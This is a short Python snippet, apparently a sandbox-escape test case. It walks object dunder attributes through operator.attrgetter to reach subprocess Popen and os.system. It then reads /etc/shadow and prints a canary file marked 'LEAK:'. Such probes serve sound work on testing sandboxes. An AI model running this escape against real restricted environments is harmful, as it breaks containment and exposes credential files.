# attrgetter walks the dunders; runs a command
import operator
try:
    classes = operator.attrgetter("__class__.__base__.__subclasses__")(())()
    for cls in classes:
        if cls.__name__ == "Popen":
            print("LEAK:", cls(["cat", "/etc/shadow"]))
    for cls in classes:
        if cls.__name__ == "_wrap_close":
            operator.attrgetter("__init__.__globals__")(cls)["system"]("sed 's/^/LEAK:/' $HERSHY_CANARY_FILE")
except Exception as error:
    print(type(error).__name__)
